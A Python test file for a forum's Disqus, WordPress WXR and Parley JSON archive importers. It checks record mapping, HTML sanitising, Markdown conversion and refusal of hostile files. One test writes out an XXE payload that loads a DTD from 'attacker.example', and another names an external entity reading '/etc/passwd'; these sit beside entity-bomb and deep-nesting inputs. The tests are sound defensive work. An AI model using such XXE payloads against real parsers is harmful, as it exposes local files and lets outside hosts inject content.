"""The front ends: each archive format read into neutral records, and hostile files refused."""

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from forum.archives import ImportFailed, jsonformat
from forum.archives.disqus import DisqusExport
from forum.archives.htmltext import html_to_markdown
from forum.archives.jsonformat import ParleyJSON
from forum.archives.placement import Skipped
from forum.archives.records import DiscussionRecord, PostRecord
from forum.archives.wxr import WordPressExport
from forum.markdown import render_markdown, sanitize_html
from tests.forum.archives.hostile_files import too_deep, too_wide

SAMPLES = Path(__file__).parent / "samples"
MOON = "wordpress:blog.example.org"


def read(front_end, name):
    with open(SAMPLES / name, "rb") as file:
        archive = front_end(file)
        return list(archive), archive.skipped


def read_bytes(front_end, data):
    archive = front_end(io.BytesIO(data))
    return list(archive), archive.skipped


def posts(records):
    return {r.external_id: r for r in records if isinstance(r, PostRecord)}


def discussions(records):
    return {r.external_id: r for r in records if isinstance(r, DiscussionRecord)}


def disqus_posts():
    return posts(read(DisqusExport, "disqus_export.xml")[0])


def moon_posts():
    return posts(read(WordPressExport, "wordpress_wxr_1_2.xml")[0])


# Disqus


def test_disqus_threads_become_discussions_with_link_title_time_and_lock():
    found = discussions(read(DisqusExport, "disqus_export.xml")[0])
    assert found["disqus:5001"] == DiscussionRecord(
        external_id="disqus:5001",
        title="Rover finds signs of ancient water on Mars",
        created_at=datetime(2019, 4, 1, 9, 0, tzinfo=UTC),
        link="https://news.example.com/2019/mars-water/",
        is_locked=False,
    )
    assert found["disqus:5002"].is_locked is True


def test_disqus_deleted_threads_are_left_out_with_their_posts_listed():
    with open(SAMPLES / "disqus_export.xml", "rb") as file:
        archive = DisqusExport(file)
        records = list(archive)
    assert "disqus:5003" not in discussions(records)
    assert "disqus:9020" not in posts(records)
    assert archive.skipped == [
        Skipped("disqus:9020", "its thread disqus:5003 was deleted in Disqus")
    ]
    assert archive.left_out == {"threads deleted in Disqus": 1}


def test_disqus_posts_name_their_thread_and_parent_by_dsq_id():
    found = disqus_posts()
    assert found["disqus:9001"].discussion_external_id == "disqus:5001"
    assert found["disqus:9001"].parent_external_id is None
    assert found["disqus:9002"].parent_external_id == "disqus:9001"
    assert found["disqus:9010"].discussion_external_id == "disqus:5002"


def test_disqus_a_reply_that_comes_before_its_parent_keeps_its_parent():
    order = list(disqus_posts())
    assert order.index("disqus:9003") < order.index("disqus:9002")
    assert disqus_posts()["disqus:9003"].parent_external_id == "disqus:9002"


def test_disqus_author_is_the_name_else_the_username_else_anonymous():
    found = disqus_posts()
    assert (found["disqus:9001"].author_name, found["disqus:9001"].author_username) == (
        "Ada Lovelace",
        "ada",
    )
    assert found["disqus:9002"].author_name == "grace_h"
    assert found["disqus:9006"].author_name == "Guest Reader"
    assert found["disqus:9007"].author_name == "Anonymous"


def test_disqus_spam_flag_makes_a_spam_post_with_its_text():
    spam = disqus_posts()["disqus:9004"]
    assert spam.status == "spam"
    assert "Cheap watches" in spam.body_html


def test_disqus_deleted_flag_makes_a_deleted_post_with_text_and_name_erased():
    deleted = disqus_posts()["disqus:9005"]
    assert deleted.status == "deleted"
    assert (deleted.body, deleted.body_html, deleted.author_name) == ("", "", "")
    assert deleted.parent_external_id == "disqus:9001"


def test_disqus_other_posts_are_published():
    assert disqus_posts()["disqus:9001"].status == "published"


def test_disqus_isapproved_false_makes_a_pending_post():
    data = (
        (SAMPLES / "disqus_export.xml")
        .read_bytes()
        .replace(
            b"<isSpam>false</isSpam>", b"<isSpam>false</isSpam><isApproved>false</isApproved>", 1
        )
    )
    assert posts(read_bytes(DisqusExport, data)[0])["disqus:9001"].status == "pending"


def test_disqus_times_are_read_as_utc():
    assert disqus_posts()["disqus:9002"].created_at == datetime(2019, 4, 1, 9, 40, tzinfo=UTC)


def test_disqus_message_html_is_sanitised_to_our_policy():
    html = disqus_posts()["disqus:9006"].body_html
    assert "<script" not in html and "alert" not in html
    assert "javascript:" not in html
    assert html.startswith("<blockquote>Water on Mars</blockquote><p>Old news,<br>but ")


def test_disqus_links_keep_their_address_and_get_our_rel():
    assert (
        '<a href="https://mars.nasa.gov/" rel="nofollow ugc noopener">Mars</a>'
        in disqus_posts()["disqus:9001"].body_html
    )


def test_disqus_message_becomes_a_markdown_source():
    found = disqus_posts()
    assert found["disqus:9001"].body == (
        "First!\n\nWater on [Mars](https://mars.nasa.gov/) & more to come."
    )
    assert found["disqus:9002"].body == "Not so fast: it is *ancient* water."
    assert found["disqus:9006"].body == (
        "> Water on Mars\n\nOld news,  \nbut **still** exciting.\n\nSee\u00a0this."
    )


# WordPress WXR


def test_wxr_items_with_comments_become_discussions_and_others_do_not():
    found = discussions(read(WordPressExport, "wordpress_wxr_1_2.xml")[0])
    assert set(found) == {f"{MOON}:42", f"{MOON}:43"}
    assert found[f"{MOON}:42"] == DiscussionRecord(
        external_id=f"{MOON}:42",
        title="Hello Moon",
        created_at=datetime(2012, 6, 1, 10, 0, tzinfo=UTC),
        link="https://blog.example.org/2012/06/hello-moon/",
        slug="hello-moon",
        is_locked=False,
    )


def test_wxr_closed_comments_lock_the_discussion():
    found = discussions(read(WordPressExport, "wordpress_wxr_1_2.xml")[0])
    assert found[f"{MOON}:43"].is_locked is True


def test_wxr_each_discussion_comes_before_its_comments():
    records = read(WordPressExport, "wordpress_wxr_1_2.xml")[0]
    first_of = {}
    for index, record in enumerate(records):
        key = getattr(record, "discussion_external_id", record.external_id)
        first_of.setdefault(key, (index, type(record)))
    assert {kind for _index, kind in first_of.values()} == {DiscussionRecord}


def test_wxr_approval_states_map_to_statuses():
    found = moon_posts()
    statuses = {external_id.rpartition(":")[2]: r.status for external_id, r in found.items()}
    assert statuses == {
        "101": "published",
        "102": "pending",
        "104": "spam",
        "105": "removed",
        "106": "removed",
        "108": "published",
        "109": "published",
        "201": "published",
    }


def test_wxr_removed_comments_keep_their_text():
    assert "trashed by the editor" in moon_posts()[f"{MOON}:105"].body


def test_wxr_pingbacks_and_trackbacks_are_skipped_and_listed():
    records, skipped = read(WordPressExport, "wordpress_wxr_1_2.xml")
    assert f"{MOON}:103" not in posts(records) and f"{MOON}:107" not in posts(records)
    assert skipped == [
        Skipped(f"{MOON}:103", "a pingback, not a comment"),
        Skipped(f"{MOON}:107", "a trackback, not a comment"),
    ]


def test_wxr_comment_parent_zero_is_top_level_and_others_name_the_parent():
    found = moon_posts()
    assert found[f"{MOON}:101"].parent_external_id is None
    assert found[f"{MOON}:102"].parent_external_id == f"{MOON}:101"
    assert found[f"{MOON}:109"].parent_external_id == f"{MOON}:108"


def test_wxr_comment_times_come_from_the_gmt_date():
    assert moon_posts()[f"{MOON}:101"].created_at == datetime(2012, 6, 1, 11, 0, tzinfo=UTC)


def test_wxr_a_zero_gmt_date_falls_back_to_the_local_date_read_as_utc():
    assert moon_posts()[f"{MOON}:108"].created_at == datetime(2012, 6, 2, 8, 30, tzinfo=UTC)


def test_wxr_blank_lines_make_paragraphs_and_single_newlines_line_breaks():
    alice = moon_posts()[f"{MOON}:101"]
    assert alice.body_html.startswith("<p>First paragraph,<br>\nwith a second line.</p>\n<p>")
    assert alice.body == (
        "First paragraph,  \nwith a second line.\n\n"
        "Second paragraph with [a link](http://example.com/moon)."
    )


def test_wxr_content_is_sanitised_to_our_policy():
    frank = moon_posts()[f"{MOON}:109"]
    assert "<script" not in frank.body_html and "alert" not in frank.body_html
    assert frank.body_html.startswith("<blockquote>The Moon rose early tonight.</blockquote>")
    assert frank.body == "> The Moon rose early tonight.\n\nIt did!"


def test_wxr_a_comment_without_an_author_is_anonymous():
    assert moon_posts()[f"{MOON}:201"].author_name == "Anonymous"


def test_wxr_1_0_namespace_is_read():
    records, skipped = read(WordPressExport, "wordpress_wxr_1_0.xml")
    found = posts(records)
    owl = "wordpress:stargazer.example.com"
    assert list(discussions(records)) == [f"{owl}:7"]
    assert found[f"{owl}:4"].parent_external_id == f"{owl}:3"
    assert found[f"{owl}:4"].author_name == "admin"
    assert skipped == []


def test_wxr_1_1_namespace_is_read():
    data = (SAMPLES / "wordpress_wxr_1_2.xml").read_bytes().replace(b"export/1.2/", b"export/1.1/")
    assert len(posts(read_bytes(WordPressExport, data)[0])) == 8


def test_wxr_an_unknown_approval_state_waits_as_pending():
    data = (SAMPLES / "wordpress_wxr_1_0.xml").read_bytes()
    data = data.replace(b"<wp:comment_approved>1<", b"<wp:comment_approved>held<", 1)
    found = posts(read_bytes(WordPressExport, data)[0])
    assert found["wordpress:stargazer.example.com:3"].status == "pending"


def test_wxr_a_percent_encoded_slug_is_read_decoded():
    data = (SAMPLES / "wordpress_wxr_1_0.xml").read_bytes()
    data = data.replace(b"<wp:post_name>perseids<", b"<wp:post_name>caf%c3%a9-perseids<")
    (discussion,) = discussions(read_bytes(WordPressExport, data)[0]).values()
    assert discussion.slug == "café-perseids"


# Hostile and broken XML


@pytest.mark.parametrize("front_end", [DisqusExport, WordPressExport])
def test_an_entity_expansion_bomb_is_refused(front_end):
    with pytest.raises(ImportFailed, match="defines XML entities"):
        read(front_end, "entity_bomb.xml")


def test_an_external_entity_is_refused_naming_it():
    with pytest.raises(ImportFailed, match="external entity \\(file:///etc/passwd\\)"):
        read(WordPressExport, "external_entity.xml")


def test_an_external_parameter_entity_is_refused():
    data = (
        b'<?xml version="1.0"?>\n<!DOCTYPE disqus [<!ENTITY % remote SYSTEM '
        b'"http://attacker.example/evil.dtd"> %remote;]>\n<disqus xmlns="http://disqus.com"/>'
    )
    with pytest.raises(ImportFailed, match="refused"):
        read_bytes(DisqusExport, data)


@pytest.mark.parametrize(
    ("front_end", "sample", "end"),
    [
        (DisqusExport, "disqus_export.xml", b"</disqus>"),
        (WordPressExport, "wordpress_wxr_1_2.xml", b"</channel>"),
    ],
)
def test_elements_nested_deeper_than_any_export_are_refused_within_the_first_reads(
    front_end, sample, end
):
    data = too_deep(100_000, sample, end=end)  # 700 KB, far past the bound of 64 levels
    reader = CountingReader(data)

    with pytest.raises(ImportFailed, match="nest more than 64 levels deep"):
        list(front_end(reader))

    assert reader.furthest < len((SAMPLES / sample).read_bytes()) + 64 * 1024


@pytest.mark.parametrize(
    ("front_end", "sample", "end", "record", "refused"),
    [
        (DisqusExport, "disqus_export.xml", b"</disqus>", "post", "post"),
        (WordPressExport, "wordpress_wxr_1_2.xml", b"</channel>", "item", "item"),
        (WordPressExport, "wordpress_wxr_1_2.xml", b"</rss>", None, "rss"),
    ],
)
def test_a_record_holding_more_elements_than_any_export_is_refused(
    front_end, sample, end, record, refused
):
    data = too_wide(20_000, sample, end=end, record=record)

    with pytest.raises(ImportFailed, match=f"one <{refused}> holds more than 10,000 elements"):
        read_bytes(front_end, data)


def test_records_as_deep_and_full_as_real_ones_are_read():
    data = too_wide(5_000).replace(b"<post><p/>", b"<post>" + b"<p>" * 60 + b"</p>" * 60)

    records, skipped = read_bytes(DisqusExport, data)

    assert len(posts(records)) == 8
    assert [skip.reason for skip in skipped] == [
        "its thread disqus:5003 was deleted in Disqus",
        "it names no thread",
    ]


def test_malformed_xml_reports_its_line():
    with pytest.raises(ImportFailed, match="malformed XML at line 9, column 33"):
        read(DisqusExport, "malformed.xml")


def test_a_truncated_file_reports_where_it_ends():
    data = (SAMPLES / "disqus_export.xml").read_bytes()
    cut = data[: data.index(b'<post dsq:id="9004">')]
    last_line = cut.count(b"\n") + 1
    with pytest.raises(ImportFailed, match=f"malformed XML at line {last_line}"):
        read_bytes(DisqusExport, cut)


def test_an_empty_file_is_malformed_xml():
    with pytest.raises(ImportFailed, match="malformed XML at line 1"):
        read_bytes(DisqusExport, b"")


def test_a_file_of_the_other_format_is_refused():
    with pytest.raises(ImportFailed, match="starts with <rss>"):
        read(DisqusExport, "wordpress_wxr_1_2.xml")
    with pytest.raises(ImportFailed, match="starts with <disqus>"):
        read(WordPressExport, "disqus_export.xml")


class CountingReader(io.BytesIO):
    """A file that remembers how far it has been read."""

    def read(self, size=-1):
        data = super().read(size)
        self.furthest = self.tell()
        return data


def big_disqus_export(posts_count):
    thread = (
        '<thread dsq:id="1"><link>https://example.com/a/</link><title>A</title>'
        "<createdAt>2020-01-01T00:00:00Z</createdAt></thread>"
    )
    post = (
        '<post dsq:id="{0}"><message>&lt;p&gt;Post {0}.&lt;/p&gt;</message>'
        "<createdAt>2020-01-01T00:00:00Z</createdAt><author><name>R</name></author>"
        '<thread dsq:id="1"/></post>\n'
    )
    body = "".join(post.format(number) for number in range(posts_count))
    return (
        '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">'
        f"{thread}{body}</disqus>"
    ).encode()


def test_records_come_while_the_file_is_still_being_read():
    file = CountingReader(big_disqus_export(20_000))
    records = iter(DisqusExport(file))
    next(records), next(records)
    assert file.furthest < len(file.getvalue()) / 10


# Parley JSON


DISCUSSION = {
    "type": "discussion",
    "external_id": "parley:thread:1",
    "title": "A thread",
    "slug": "a-thread",
    "created_at": "2024-01-01T10:00:00+00:00",
    "is_locked": True,
    "lock_reason": "Heated",
    "article": None,
}
POST = {
    "type": "post",
    "external_id": "parley:post:1",
    "discussion": "parley:thread:1",
    "parent": None,
    "author_name": "Reader",
    "author_username": "reader",
    "created_at": "2024-01-01T11:00:00.250000+00:00",
    "edited_at": "2024-01-01T12:00:00+00:00",
    "status": "removed",
    "body": "*Hi*",
    "body_html": "<p><em>Hi</em></p>",
}


def json_archive(*items, version=2):
    """A Parley JSON Lines archive: the header, then one item a line."""
    lines = [{"format": "parley", "version": version}, *(items or (DISCUSSION, POST))]
    return "".join(json.dumps(line) + "\n" for line in lines).encode()


def test_json_archive_gives_back_every_field():
    records, _skipped = read_bytes(ParleyJSON, json_archive())
    discussion, post = records
    assert (discussion.slug, discussion.is_locked, discussion.lock_reason) == (
        "a-thread",
        True,
        "Heated",
    )
    assert post == PostRecord(
        external_id="parley:post:1",
        discussion_external_id="parley:thread:1",
        parent_external_id=None,
        author_name="Reader",
        author_username="reader",
        created_at=datetime(2024, 1, 1, 11, 0, 0, 250000, tzinfo=UTC),
        edited_at=datetime(2024, 1, 1, 12, tzinfo=UTC),
        status="removed",
        body="*Hi*",
        body_html="<p><em>Hi</em></p>",
    )


FLAG = {
    "type": "flag",
    "post": "parley:post:1",
    "reporter": {"id": 4, "name": "ana"},
    "reason": "abuse",
    "note": "",
    "created_at": "2024-01-01T12:30:00+00:00",
    "resolved_at": None,
    "resolved_by": None,
}


def test_json_version_3_names_its_site_and_gives_votes_and_accounts():
    header = {"format": "parley", "version": 3, "site": "abc", "scope": "site"}
    post = {
        **POST,
        "author_id": 4,
        "upvotes": 2,
        "downvotes": 1,
        "votes": [{"user_id": 5, "value": -1, "created_at": "2024-01-02T00:00:00+00:00"}],
    }
    archive = ParleyJSON(io.BytesIO(json_lines_of(header, DISCUSSION, post, FLAG)))
    _discussion, record, flag = list(archive)
    assert (archive.site, archive.scope) == ("abc", "site")
    assert record.extra == {
        "author_id": 4,
        "upvotes": 2,
        "downvotes": 1,
        "votes": [(5, -1, datetime(2024, 1, 2, tzinfo=UTC))],
    }
    assert (flag.post_external_id, flag.reporter.name, flag.reason) == (
        "parley:post:1",
        "ana",
        "abuse",
    )


def test_json_a_report_with_an_unknown_reason_is_refused_with_its_line():
    header = {"format": "parley", "version": 3, "site": "abc", "scope": "site"}
    archive = json_lines_of(header, DISCUSSION, POST, {**FLAG, "reason": "boring"})
    with pytest.raises(ImportFailed, match='line 4: "reason" has an unexpected value'):
        read_bytes(ParleyJSON, archive)


def test_json_a_negative_vote_count_is_refused_with_its_line():
    header = {"format": "parley", "version": 3, "site": "abc", "scope": "site"}
    archive = json_lines_of(header, DISCUSSION, {**POST, "upvotes": -3})
    with pytest.raises(ImportFailed, match='line 3: "upvotes" is not a count'):
        read_bytes(ParleyJSON, archive)


def test_json_version_2_has_no_history_lines():
    with pytest.raises(ImportFailed, match='line 4: "type" has an unexpected value'):
        read_bytes(ParleyJSON, json_archive(DISCUSSION, POST, FLAG))


def json_lines_of(*lines):
    return "".join(json.dumps(line) + "\n" for line in lines).encode()


def test_json_blank_lines_and_a_missing_last_line_end_are_accepted():
    archive = json_archive().replace(b"\n", b"\n\r\n").rstrip(b"\r\n")
    records, _skipped = read_bytes(ParleyJSON, archive)
    assert [record.external_id for record in records] == ["parley:thread:1", "parley:post:1"]


def test_json_records_come_while_the_file_is_still_being_read():
    file = CountingReader(json_archive(DISCUSSION, *[{**POST, "body": "x" * 1000}] * 20_000))
    records = iter(ParleyJSON(file))
    next(records), next(records)
    assert file.furthest < len(file.getvalue()) / 10


def test_malformed_json_reports_its_line_and_column():
    archive = json_archive() + b'{"type": "post",}\n'
    with pytest.raises(ImportFailed, match="malformed JSON at line 4, column 17"):
        read_bytes(ParleyJSON, archive)


def test_json_that_is_not_utf_8_names_its_line():
    with pytest.raises(ImportFailed, match="line 3: it is not UTF-8"):
        read_bytes(ParleyJSON, json_archive().replace(b"Reader", b"R\xe9ader"))


def test_json_of_another_format_or_version_is_refused():
    with pytest.raises(ImportFailed, match="not a Parley JSON archive"):
        read_bytes(ParleyJSON, b'{"posts": []}')
    with pytest.raises(ImportFailed, match="not a Parley JSON archive"):
        read_bytes(ParleyJSON, b"")
    with pytest.raises(ImportFailed, match="unsupported Parley JSON version 1"):
        read_bytes(ParleyJSON, json_archive(version=1))


def test_json_a_missing_field_is_named_with_its_line():
    post = {key: value for key, value in POST.items() if key != "author_name"}
    with pytest.raises(ImportFailed, match='line 3 lacks "author_name"'):
        read_bytes(ParleyJSON, json_archive(DISCUSSION, post))


def test_json_an_unknown_status_is_refused():
    with pytest.raises(ImportFailed, match='line 3: "status" has an unexpected value'):
        read_bytes(ParleyJSON, json_archive(DISCUSSION, {**POST, "status": "hidden"}))


def test_json_an_external_id_without_its_source_is_refused_with_its_line():
    with pytest.raises(ImportFailed, match='line 3: "external_id" is not "<source>:<id>"'):
        read_bytes(ParleyJSON, json_archive(DISCUSSION, {**POST, "external_id": "17"}))


def test_json_an_item_of_unknown_type_is_refused():
    with pytest.raises(ImportFailed, match='line 2: "type" has an unexpected value'):
        read_bytes(ParleyJSON, json_archive({**DISCUSSION, "type": "user"}))


def test_json_nested_too_deeply_is_refused():
    deep = b"[" * 100_000 + b"]" * 100_000
    with pytest.raises(ImportFailed, match="the JSON at line 3 is nested too deeply"):
        read_bytes(ParleyJSON, json_archive(DISCUSSION) + deep)
    with pytest.raises(ImportFailed, match="not a Parley JSON archive"):
        read_bytes(ParleyJSON, deep)


def test_json_a_line_longer_than_any_post_is_refused_without_reading_on(monkeypatch):
    monkeypatch.setattr(jsonformat, "MAX_LINE_SIZE", 4096)
    monkeypatch.setattr(jsonformat, "READ_SIZE", 1024)
    file = CountingReader(json_archive() + b'{"type": "post", "body": "' + b"x" * 100_000)
    with pytest.raises(ImportFailed, match="line 4 is longer than"):
        list(ParleyJSON(file))
    assert file.furthest < 10_000


# Imported HTML as Markdown source


@pytest.mark.parametrize(
    "html",
    [
        "<p>Plain words.</p>",
        "<p>Line one<br>\nline two</p>",
        "<blockquote>\n<p>Quoted</p>\n<p>twice</p>\n</blockquote>\n<p>Answer</p>",
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>",
        "<ol>\n<li>first</li>\n<li>second</li>\n</ol>",
        "<p>Use <code>a*b</code> and <em>stress</em> and <strong>weight</strong>.</p>",
        "<pre><code>indented\n  *not emphasis*\n</code></pre>",
        "<p>Stars * and _under_ and [brackets] stay literal</p>",
        "<p>1. not a list</p>\n<p>- nor this</p>\n<p>&gt; nor a quote</p>",
    ],
)
def test_imported_html_becomes_markdown_that_renders_back_to_it(html):
    imported = sanitize_html(html)
    rendered = render_markdown(html_to_markdown(imported))
    # Line ends between tags are the only difference markdown-it's output may make.
    assert rendered.replace("\n", "") == imported.replace("\n", "")
